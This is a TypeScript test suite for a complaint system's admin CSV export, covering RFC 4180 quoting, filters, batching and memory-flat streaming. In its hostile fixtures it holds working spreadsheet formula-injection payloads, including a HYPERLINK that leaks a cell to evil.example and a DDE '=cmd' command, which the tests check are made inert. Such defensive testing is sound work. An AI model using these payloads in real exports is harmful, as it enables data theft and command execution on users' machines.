/**
 * CONTRACT 5.6: the admin's CSV export: headers, byte-order mark, header line, RFC 4180 quoting and
 * inert formula-like cells (read back with a strict RFC 4180 parser), the filters of /admin/all,
 * batches of EXPORT_BATCH rows, and 200,000 rows streamed in flat memory over a real socket.
 */
import type { AddressInfo } from 'node:net';
import v8 from 'node:v8';
import vm from 'node:vm';
import { EXPORT_COLUMNS } from '@bit/contract';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Built, buildAdmin, buildAuthority, buildStudent } from '../../../test/factories';
import { createTestApp, type TestApp } from '../../../test/harness';
import { zonedDateTime } from '../../lib/zoned-time';
import { timelineColumns } from '../../services/complaints/due';
import { EXPORT_BATCH } from '../../services/complaints/export';

const MIN = 60_000;

/** RFC 4180, strictly: a quote inside an unquoted field or text after a closing quote is an error. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  const n = text.length;
  while (i < n) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= n) throw new Error('unterminated quoted field');
        const ch = text[i] as string;
        if (ch === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += ch;
        i++;
      }
      if (i < n && text[i] !== ',' && !text.startsWith('\r\n', i))
        throw new Error(`text after a closing quote at ${i}: ${JSON.stringify(text.slice(i, i + 10))}`);
    } else {
      while (i < n && text[i] !== ',' && !text.startsWith('\r\n', i)) {
        const ch = text[i] as string;
        if (ch === '"' || ch === '\n' || ch === '\r')
          throw new Error(`${JSON.stringify(ch)} in an unquoted field at ${i}`);
        field += ch;
        i++;
      }
    }
    record.push(field);
    if (text[i] === ',') {
      i++;
      if (i >= n) throw new Error('a record must end in CRLF');
    } else if (text.startsWith('\r\n', i)) {
      i += 2;
      records.push(record);
      record = [];
    } else if (i >= n) {
      throw new Error('the last record must end in CRLF');
    }
  }
  return records;
}

/** The export's rows as objects by column, after checking the BOM, the header and the widths. */
function recordsOf(body: string) {
  expect(body.startsWith('\uFEFF')).toBe(true);
  const [header, ...rows] = parseCsv(body.slice(1));
  expect(header).toEqual([...EXPORT_COLUMNS]);
  return rows.map((cells) => {
    expect(cells).toHaveLength(EXPORT_COLUMNS.length);
    return Object.fromEntries(EXPORT_COLUMNS.map((c, k) => [c, cells[k] as string])) as Record<
      (typeof EXPORT_COLUMNS)[number],
      string
    >;
  });
}

interface Direct {
  type: 'Hostel' | 'College';
  hostelNo?: number | null;
  subType?: string;
  description: string;
  status?: 'Pending' | 'In Progress' | 'Resolved' | 'Rejected';
  remarks?: string | null;
  createdAt: number;
  studentName?: string;
}

/** Rows written straight into the table, with the timeline columns the services would set. */
function directRows(t: TestApp, student: Built, rows: Direct[], tokenPrefix: string, from = 0) {
  return rows.map((r, k) => {
    const status = r.status ?? 'Pending';
    const type = r.type;
    return {
      token: `CMP-${tokenPrefix}${String(from + k).padStart(7, '0')}`,
      type,
      hostel_no: type === 'Hostel' ? (r.hostelNo ?? 1) : null,
      room_no: type === 'Hostel' ? 'B-12' : null,
      sub_type: r.subType ?? (type === 'Hostel' ? 'Fan' : 'Library'),
      is_network: 0,
      description: r.description,
      status,
      remarks: r.remarks ?? null,
      assigned_to_id: null,
      assigned_name: null,
      assigned_designation: null,
      student_id: student.id,
      student_name: r.studentName ?? student.user.name,
      student_roll: student.user.rollNo ?? null,
      created_at: r.createdAt,
      updated_at: r.createdAt,
      closed_at: status === 'Resolved' || status === 'Rejected' ? r.createdAt : null,
      ...timelineColumns(t.config, {
        type,
        createdAt: r.createdAt,
        firstResponseAt: null,
        resolvedAt: status === 'Resolved' ? r.createdAt : null,
      }),
    };
  });
}

/** Inserts in statements of at most `chunk` rows, in one transaction. */
async function insertDirect(t: TestApp, values: ReturnType<typeof directRows>, chunk = 500) {
  await t.ctx.database.db.transaction().execute(async (trx) => {
    for (let k = 0; k < values.length; k += chunk)
      await trx
        .insertInto('complaints')
        .values(values.slice(k, k + chunk))
        .execute();
  });
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\tleading tab',
  '\r=1+1 after a carriage return',
  'He said "fix it", twice',
  'comma, separated, words',
  'first line\nsecond line\r\nthird line',
  'पंखा खराब है',
  'plain description',
];
/** What a spreadsheet must read back: formula-like cells prefixed with a quote. */
const inert = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);

describe('the CSV export (5.6)', () => {
  let t: TestApp;
  let students: Built[];
  let other: Built;
  let admin: Built;
  let rated: { id: number; token: string };
  const hostileTokens: string[] = [];

  const exportCsv = (query = '', token: string | undefined = admin.token) =>
    t.request({ method: 'GET', url: `/api/complaints/admin/export.csv${query && `?${query}`}`, token });

  beforeAll(async () => {
    t = await createTestApp({ config: { slaHoursHostel: 1, slaHoursCollege: 3 } });
    students = [await buildStudent(t), await buildStudent(t), await buildStudent(t)];
    other = await buildAuthority(t, 'Other', { name: 'Ravi Verma' });
    admin = await buildAdmin(t);
    // through the API: hostels 1 and 2 and the college, in every status, ten minutes apart
    const filed: { id: number; token: string; owner: Built }[] = [];
    for (let i = 0; i < 18; i++) {
      const owner = students[i % 3] as Built;
      const isCollege = i % 3 === 2;
      const res = await t.request({
        method: 'POST',
        url: '/api/complaints',
        token: owner.token,
        payload: isCollege
          ? { type: 'College', subType: 'Library', description: `college complaint ${i}` }
          : {
              type: 'Hostel',
              hostelNo: (i % 2) + 1,
              roomNo: `R-${i}`,
              subType: 'Plumbing',
              description: `hostel complaint ${i}`,
            },
      });
      expect(res.status, JSON.stringify(res.body)).toBe(201);
      const c = { id: res.body.complaint.id as number, token: res.body.complaint.token as string, owner };
      filed.push(c);
      const status = (['Pending', 'In Progress', 'Resolved', 'Rejected'] as const)[i % 4];
      for (const s of status === 'Pending'
        ? []
        : status === 'In Progress'
          ? [status]
          : ['In Progress', status]) {
        const upd = await t.request({
          method: 'PUT',
          url: `/api/complaints/${c.id}`,
          token: other.token,
          payload: { status: s, remarks: `moved to ${s}, by the office` },
        });
        expect(upd.status, JSON.stringify(upd.body)).toBe(200);
      }
      t.clock.advance(10 * MIN);
    }
    // one rated complaint
    const resolved = filed[2] as (typeof filed)[number];
    const fb = await t.request({
      method: 'POST',
      url: '/api/feedback',
      token: resolved.owner.token,
      payload: { complaintId: resolved.id, rating: 4, comments: 'Fixed quickly' },
    });
    expect(fb.status, JSON.stringify(fb.body)).toBe(201);
    rated = resolved;
    // hostile descriptions, a Hindi name and a remark with a comma, written straight into the table
    const hostileStudent = students[0] as Built;
    const rows = directRows(
      t,
      hostileStudent,
      HOSTILE.map((description, k) => ({
        type: 'Hostel' as const,
        hostelNo: 3,
        description,
        remarks: k === 0 ? '=cmd|" /C calc"!A0' : 'checked, will visit',
        studentName: k === 9 ? 'अमित कुमार' : undefined,
        createdAt: t.clock.now() + k,
      })),
      'HOST',
    );
    await insertDirect(t, rows);
    hostileTokens.push(...rows.map((r) => r.token));
    t.clock.advance(MIN);
  });
  afterAll(async () => t?.close());

  /**
   * The tokens the filter keeps, straight from the table: newest first, the overdue ones most
   * overdue first (6.6); `filed`: filed at or after its start and before its end.
   */
  async function expectedTokens(f: {
    hostelNo?: number;
    type?: string;
    status?: string;
    overdue?: boolean;
    filed?: [number, number];
  }) {
    let q = t.ctx.database.db.selectFrom('complaints').select('token');
    if (f.hostelNo !== undefined) q = q.where('hostel_no', '=', f.hostelNo);
    if (f.type) q = q.where('type', '=', f.type as 'Hostel');
    if (f.status) q = q.where('status', '=', f.status as 'Pending');
    if (f.filed) q = q.where('created_at', '>=', f.filed[0]).where('created_at', '<', f.filed[1]);
    if (f.overdue)
      q = q.where('status', 'in', ['Pending', 'In Progress']).where('due_at', '<=', t.clock.now());
    const ordered = f.overdue
      ? q.orderBy('due_at', 'asc').orderBy('id', 'asc')
      : f.filed
        ? q.orderBy('created_at', 'desc').orderBy('id', 'desc')
        : q.orderBy('id', 'desc');
    return (await ordered.execute()).map((r) => r.token);
  }

  it('sends CSV as an attachment named for today in TIME_ZONE', async () => {
    const res = await exportCsv();
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="complaints-2026-01-15.csv"');
    // 19:00 UTC on 15 January is 00:30 on the 16th in Asia/Kolkata
    const before = t.clock.now();
    t.clock.set(Date.UTC(2026, 0, 15, 19, 0));
    try {
      const late = await exportCsv();
      expect(late.headers['content-disposition']).toBe('attachment; filename="complaints-2026-01-16.csv"');
    } finally {
      t.clock.set(before);
    }
  });

  it('names the file for its period when it has one', async () => {
    const named = async (query: string) => (await exportCsv(query)).headers['content-disposition'];
    expect(await named('from=2025-11-01&to=2025-11-29')).toBe(
      'attachment; filename="complaints-2025-11-01-to-2025-11-29.csv"',
    );
    // from a day on: up to today in TIME_ZONE
    expect(await named('from=2026-01-01')).toBe(
      'attachment; filename="complaints-2026-01-01-to-2026-01-15.csv"',
    );
    expect(await named('to=2025-12-31')).toBe('attachment; filename="complaints-until-2025-12-31.csv"');
    // the other filters do not name it
    expect(await named('type=Hostel')).toBe('attachment; filename="complaints-2026-01-15.csv"');
  });

  it('starts with a byte-order mark and the header line of EXPORT_COLUMNS', async () => {
    const res = await exportCsv();
    const bytes = Buffer.from(res.body as string, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect((res.body as string).slice(1).split('\r\n')[0]).toBe(EXPORT_COLUMNS.join(','));
    expect(EXPORT_COLUMNS.join(',')).toBe(
      'token,type,hostelNo,roomNo,subType,description,status,remarks,student,rollNo,assignedTo,createdAt,updatedAt,dueAt,overdue,rating',
    );
  });

  it('quotes by RFC 4180 and makes every formula-like cell inert, keeping Hindi text', async () => {
    const res = await exportCsv('hostelNo=3');
    const records = recordsOf(res.body as string);
    expect(records.map((r) => r.token)).toEqual([...hostileTokens].reverse());
    const byToken = new Map(records.map((r) => [r.token, r]));
    HOSTILE.forEach((description, k) => {
      const r = byToken.get(hostileTokens[k] as string);
      expect(r?.description, JSON.stringify(description)).toBe(inert(description));
    });
    expect(byToken.get(hostileTokens[0] as string)?.remarks).toBe(`'=cmd|" /C calc"!A0`);
    expect(byToken.get(hostileTokens[1] as string)?.remarks).toBe('checked, will visit');
    expect(byToken.get(hostileTokens[9] as string)?.student).toBe('अमित कुमार');
    const raw = res.body as string;
    // the cells as written, not only as read back
    expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    expect(raw).toContain(`,'+1+1,`);
    expect(raw).toContain(`,'-2+3,`);
    expect(raw).toContain(`,'@SUM(A1:A9),`);
    expect(raw).toContain(`,'\tleading tab,`);
    expect(raw).toContain(`,"'\r=1+1 after a carriage return",`);
    expect(raw).toContain(`,"He said ""fix it"", twice",`);
    expect(raw).toContain(`,"first line\nsecond line\r\nthird line",`);
    expect(raw).toContain(',पंखा खराब है,');
    // no line starts with a formula character outside quotes
    for (const line of raw.split('\r\n')) expect(line).not.toMatch(/^[=+\-@]/);
  });

  const inZone = (iso: string) => zonedDateTime(Date.parse(iso), t.config.timeZone);

  it('writes dates in TIME_ZONE as YYYY-MM-DD HH:MM:SS, the day a complaint was filed there (6.6)', async () => {
    expect(t.config.timeZone).toBe('Asia/Kolkata');
    // 19:23:49.081 UTC on 26 November: 00:53:49 on the 27th in India (issue 33 row 5)
    const filed = Date.UTC(2026, 10, 26, 19, 23, 49, 81);
    await insertDirect(
      t,
      directRows(
        t,
        students[1] as Built,
        [{ type: 'Hostel', hostelNo: 9, description: 'Late', createdAt: filed }],
        'ZONE',
      ),
    );
    const [row] = recordsOf((await exportCsv('hostelNo=9')).body as string);
    expect(row?.createdAt).toBe('2026-11-27 00:53:49');
    expect(row?.updatedAt).toBe('2026-11-27 00:53:49');
    // the hostel SLA of this suite is one hour
    expect(row?.dueAt).toBe('2026-11-27 01:53:49');
    for (const r of recordsOf((await exportCsv()).body as string))
      for (const date of [r.createdAt, r.updatedAt, r.dueAt])
        expect(date).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
  });

  it('writes each complaint as the API shows it, with the rating of a rated one', async () => {
    const records = recordsOf((await exportCsv()).body as string);
    const list = await t.request({
      method: 'GET',
      url: '/api/complaints/admin/all?pageSize=100',
      token: admin.token,
    });
    const shown = new Map(list.body.data.map((c: { token: string }) => [c.token, c]));
    let checked = 0;
    for (const r of records) {
      const c = shown.get(r.token) as Record<string, unknown> | undefined;
      if (!c) continue;
      checked++;
      expect(r.type).toBe(c.type);
      expect(r.hostelNo).toBe(c.hostelNo === null ? '' : String(c.hostelNo));
      expect(r.status).toBe(c.status);
      // the same instants, in TIME_ZONE to the second (CONTRACT 6.6)
      expect(r.createdAt).toBe(inZone(c.createdAt as string));
      expect(r.updatedAt).toBe(inZone(c.updatedAt as string));
      expect(r.dueAt).toBe(inZone(c.dueAt as string));
      expect(r.overdue).toBe(String(c.overdue));
      expect(r.student).toBe((c.student as { name: string }).name);
      if (c.assignedTo) expect(r.assignedTo).toContain((c.assignedTo as { name: string }).name);
    }
    expect(checked).toBe(records.length);
    const ratedRow = records.find((r) => r.token === rated.token);
    expect(ratedRow?.rating).toBe('4');
    expect(records.filter((r) => r.rating !== '').map((r) => r.token)).toEqual([rated.token]);
  });

  it.each([
    ['', {}],
    ['hostelNo=1', { hostelNo: 1 }],
    ['hostelNo=2&status=Resolved', { hostelNo: 2, status: 'Resolved' }],
    ['type=College', { type: 'College' }],
    ['type=Hostel&status=In%20Progress', { type: 'Hostel', status: 'In Progress' }],
    ['status=Rejected', { status: 'Rejected' }],
    ['overdue=true', { overdue: true }],
    ['overdue=true&type=College', { type: 'College', overdue: true }],
    ['overdue=true&hostelNo=1&status=Pending', { hostelNo: 1, status: 'Pending', overdue: true }],
    ['overdue=false', {}],
    ['type=College&hostelNo=1', { type: 'College', hostelNo: 1 }],
  ])('exports exactly the complaints of the filter %j, in the list order', async (query, f) => {
    const res = await exportCsv(query);
    expect(res.status).toBe(200);
    const tokens = recordsOf(res.body as string).map((r) => r.token);
    expect(tokens).toEqual(await expectedTokens(f));
  });

  it('has overdue ones to filter, and marks them overdue', async () => {
    const records = recordsOf((await exportCsv('overdue=true')).body as string);
    expect(records.length).toBeGreaterThan(0);
    for (const r of records) expect(r.overdue).toBe('true');
    const notOverdue = recordsOf((await exportCsv()).body as string).filter((r) => r.overdue === 'false');
    expect(notOverdue.length).toBeGreaterThan(0);
  });

  it('refuses bad filters with 400, and answers only to an admin', async () => {
    expect((await exportCsv('status=Done')).status).toBe(400);
    expect((await exportCsv('hostelNo=abc')).status).toBe(400);
    expect((await exportCsv('overdue=maybe')).status).toBe(400);
    expect((await exportCsv('', (students[0] as Built).token)).status).toBe(403);
    expect((await exportCsv('', other.token)).status).toBe(403);
    expect((await exportCsv('', '')).status).toBe(401);
  });
});

describe('a large CSV export (5.6)', () => {
  let t: TestApp;
  let admin: Built;
  let student: Built;
  const BASE = Date.UTC(2026, 0, 10, 0, 0);
  const FIRST = 2500;
  const TOTAL = 200_000;

  beforeAll(async () => {
    t = await createTestApp();
    admin = await buildAdmin(t);
    student = await buildStudent(t);
  });
  afterAll(async () => t?.close());

  it(`exports more than ${EXPORT_BATCH} rows across batches, each once and in order`, async () => {
    expect(FIRST).toBeGreaterThan(2 * EXPORT_BATCH);
    const rows = directRows(
      t,
      student,
      Array.from({ length: FIRST }, (_, k) => ({
        type: k % 4 === 3 ? ('College' as const) : ('Hostel' as const),
        hostelNo: (k % 5) + 1,
        description: `bulk row ${k}`,
        createdAt: BASE + k * 1000,
      })),
      'BULK',
    );
    await insertDirect(t, rows, 500);
    const res = await t.request({
      method: 'GET',
      url: '/api/complaints/admin/export.csv',
      token: admin.token,
    });
    expect(res.status).toBe(200);
    const tokens = recordsOf(res.body as string).map((r) => r.token);
    expect(tokens).toHaveLength(FIRST);
    expect(new Set(tokens).size).toBe(FIRST);
    expect(tokens).toEqual(rows.map((r) => r.token).reverse());
    // a filter across batches as well
    const hostel = await t.request({
      method: 'GET',
      url: '/api/complaints/admin/export.csv?type=Hostel',
      token: admin.token,
    });
    expect(recordsOf(hostel.body as string).map((r) => r.token)).toEqual(
      rows
        .filter((r) => r.type === 'Hostel')
        .map((r) => r.token)
        .reverse(),
    );
  });

  it(`streams ${TOTAL.toLocaleString('en')} rows in flat memory`, async () => {
    // the rest of the 200,000, generated by the database itself, with the timeline columns
    // the services set (all filed on one day, so one filing month)
    const count = async () =>
      Number(
        (
          await t.ctx.database.db
            .selectFrom('complaints')
            .select((eb) => eb.fn.countAll<number | string>().as('n'))
            .executeTakeFirstOrThrow()
        ).n,
      );
    // the test before left FIRST rows, unless it was left out
    const more = TOTAL - (await count());
    const start = BASE + FIRST * 1000;
    const tl = timelineColumns(t.config, {
      type: 'Hostel',
      createdAt: start,
      firstResponseAt: null,
      resolvedAt: null,
    });
    const sla = tl.due_at - start;
    const filler = 'x'.repeat(400);
    const columns = sql`(token, type, hostel_no, room_no, sub_type, description, status, remarks, student_id,
          student_name, student_roll, created_at, updated_at, due_at, filed_month, is_network, reopen_count)`;
    if (t.ctx.database.dialect === 'postgres') {
      // in pieces: each statement must end within the pool's 4 s query timeout
      for (let lo = 1; lo <= more; lo += 10_000) {
        const hi = Math.min(more, lo + 9_999);
        await sql`insert into complaints ${columns}
          select 'CMP-BIG' || lpad(n::text, 7, '0'), 'Hostel', 2, 'C-7', 'Fan', ${filler} || ' #' || n, 'Pending',
            null, ${student.id}::bigint, ${student.user.name}::text, ${student.user.rollNo ?? null}::text,
            ${start}::bigint + n * 100, ${start}::bigint + n * 100, ${start}::bigint + n * 100 + ${sla}::bigint,
            ${tl.filed_month}::integer, 0, 0
          from generate_series(${lo}::integer, ${hi}::integer) as n`.execute(t.ctx.database.db);
      }
    } else {
      await sql`insert into complaints ${columns}
          with recursive s(n) as (select 1 union all select n + 1 from s where n < ${more})
          select 'CMP-BIG' || substr('0000000' || n, -7), 'Hostel', 2, 'C-7', 'Fan', ${filler} || ' #' || n, 'Pending',
            null, ${student.id}, ${student.user.name}, ${student.user.rollNo ?? null},
            ${start} + n * 100, ${start} + n * 100, ${start} + n * 100 + ${sla}, ${tl.filed_month}, 0, 0
          from s`.execute(t.ctx.database.db);
    }
    expect(await count()).toBe(TOTAL);

    await t.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = t.app.server.address() as AddressInfo;
    const res = await fetch(`http://127.0.0.1:${port}/api/complaints/admin/export.csv`, {
      headers: { authorization: `Bearer ${admin.token}` },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const reader = (res.body as ReadableStream<Uint8Array>).getReader();

    // live memory, not garbage not yet collected: a full collection before each sample
    v8.setFlagsFromString('--expose-gc');
    const gc = vm.runInNewContext('gc') as () => void;
    gc();
    const base = process.memoryUsage();
    let maxHeap = base.heapUsed;
    let maxLive = base.heapUsed + base.external;
    let maxRss = base.rss;
    let bytes = 0;
    let lines = 0;
    let chunks = 0;
    let firstBytes: number[] = [];
    let lastByte = -1;
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      if (chunks === 0) firstBytes = [...value.subarray(0, 3)];
      chunks++;
      bytes += value.byteLength;
      // no field of these rows holds a line break: each LF ends a record
      for (let k = 0; k < value.byteLength; k++) if (value[k] === 10) lines++;
      lastByte = value[value.byteLength - 1] as number;
      if (chunks % 256 === 0) {
        gc();
        const m = process.memoryUsage();
        maxHeap = Math.max(maxHeap, m.heapUsed);
        maxLive = Math.max(maxLive, m.heapUsed + m.external);
        maxRss = Math.max(maxRss, m.rss);
      }
    }
    const mb = (n: number) => `${(n / 1e6).toFixed(1)} MB`;
    const heapGrowth = maxHeap - base.heapUsed;
    const liveGrowth = maxLive - (base.heapUsed + base.external);
    const rssGrowth = maxRss - base.rss;
    console.info(
      `export of ${TOTAL} rows: ${mb(bytes)} in ${chunks} chunks; growth of the heap ${mb(heapGrowth)}, ` +
        `of heap and buffers ${mb(liveGrowth)}, of rss ${mb(rssGrowth)}`,
    );
    expect(firstBytes).toEqual([0xef, 0xbb, 0xbf]);
    expect(lastByte).toBe(10);
    // the header and every complaint, once
    expect(lines).toBe(TOTAL + 1);
    expect(bytes).toBeGreaterThan(TOTAL * 400);
    // many pieces, not one buffered body
    expect(chunks).toBeGreaterThan(TOTAL / EXPORT_BATCH / 2);
    // the live heap (after a full collection) stays flat: far below the size of the file
    expect(heapGrowth).toBeLessThan(bytes / 4);
    // nor is the file kept in buffers (socket queues that ignore backpressure): they level off
    // at some 12 to 25 MB of pools and in-flight pieces, where a buffered body would be it all
    expect(liveGrowth).toBeLessThan(bytes / 2);
    // rss also holds SQLite's 32 MB page cache and what the allocator keeps: a loose bound
    expect(rssGrowth).toBeLessThan(bytes);
  }, 300_000);
});
